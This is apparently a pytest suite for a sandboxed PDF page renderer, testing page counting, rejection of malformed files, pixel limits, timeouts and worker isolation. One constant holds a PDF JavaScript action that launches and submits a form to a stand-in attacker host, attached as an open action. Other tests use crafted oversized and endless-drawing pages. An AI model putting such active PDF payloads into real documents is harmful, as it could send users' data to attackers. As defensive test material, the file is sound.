"""PDF pages drawn by real processes, which hostile documents may end but not use."""

import io
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from fpdf import FPDF
from PIL import Image

from services.portal.drawing import DrawingPool, Limits
from services.portal.errors import NotDrawnError

SCRIPT = b"<</S/JavaScript/JS(app.launchURL\\('http://evil.example'\\); this.submitForm\\('http://evil.example'\\);)>>"


def page_of(size: tuple[float, float], content: bytes = b"", catalog: bytes = b"") -> bytes:
    """A PDF with one page, by hand."""
    box = b"%g %g" % size
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R" + catalog + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 " + box + b"]/Contents 4 0 R>>endobj\n"
        b"4 0 obj<</Length %d>>stream\n"
        % len(content)
        + content
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def letter(pages: int) -> bytes:
    document = FPDF()
    document.set_font("Helvetica", size=30)
    for number in range(pages):
        document.add_page()
        document.cell(text=f"Page {number + 1}")
    return bytes(document.output())


def opened(jpeg: bytes) -> Image.Image:
    picture = Image.open(io.BytesIO(jpeg), formats=["JPEG"])
    picture.load()
    return picture


@pytest.fixture
async def pool() -> AsyncIterator[DrawingPool]:
    pool = DrawingPool(Limits(cpu_seconds=2, wall_seconds=8), at_once=1)
    yield pool
    await pool.close()


async def test_pages_are_counted_and_drawn(pool: DrawingPool) -> None:
    pdf = letter(3)
    assert await pool.count(pdf) == 3
    picture = opened(await pool.page(pdf, 3))
    assert picture.width == 1200
    assert min(picture.convert("L").tobytes()) < 80
    with pytest.raises(NotDrawnError):
        await pool.page(pdf, 4)


@pytest.mark.parametrize(
    "pdf", [b"", b"%PDF-1.4", b"<html><script>", letter(1)[:300], b"%PDF-1.7\n" + b"\x00" * 100_000]
)
async def test_what_is_no_pdf_is_not_drawn_and_the_next_one_is(pool: DrawingPool, pdf: bytes) -> None:
    with pytest.raises(NotDrawnError):
        await pool.count(pdf)
    assert await pool.count(letter(1)) == 1


@pytest.mark.parametrize("size", [(14400, 14400), (14400, 3), (0.5, 0.5), (1e9, 1e9), (595, 842)])
async def test_no_page_makes_a_picture_of_more_pixels_than_it_may(pool: DrawingPool, size: tuple[float, float]) -> None:
    try:
        picture = opened(await pool.page(page_of(size), 1))
    except NotDrawnError:
        return
    assert picture.width * picture.height <= Limits().pixels * 1.01
    assert picture.width <= 1201


async def test_what_a_pdf_would_run_is_not_run(pool: DrawingPool) -> None:
    pdf = page_of((595, 842), catalog=b"/OpenAction" + SCRIPT + b"/AA<</WC" + SCRIPT + b">>")
    assert opened(await pool.page(pdf, 1)).getextrema() == ((255, 255),) * 3


async def test_a_page_that_never_ends_is_given_up_and_the_next_one_is_drawn(pool: DrawingPool) -> None:
    circles = b"0 0 m 500 0 500 800 0 800 c " * 200_000 + b"f*\n"
    with pytest.raises(NotDrawnError):
        await pool.page(page_of((595, 842), b"[1 0.001] 0 d 0.01 w " + circles.replace(b"f*", b"S")), 1)
    assert await pool.count(letter(1)) == 1


async def test_a_drawing_process_knows_nothing_of_us(pool: DrawingPool) -> None:
    await pool.count(letter(1))
    (process,) = pool._idle
    proc = Path(f"/proc/{process.pid}")
    assert proc.joinpath("environ").read_bytes().rstrip(b"\0") in (b"LC_ALL=C.UTF-8", b"")
    limits = proc.joinpath("limits").read_text()
    rows = {line[:26].strip(): line[26:].split()[:2] for line in limits.splitlines()[1:]}
    assert rows["Max processes"] == rows["Max file size"] == rows["Max core file size"] == ["0", "0"]
    assert rows["Max open files"] == ["3", "3"]
    assert sorted(path.name for path in proc.joinpath("fd").iterdir()) == ["0", "1", "2"]
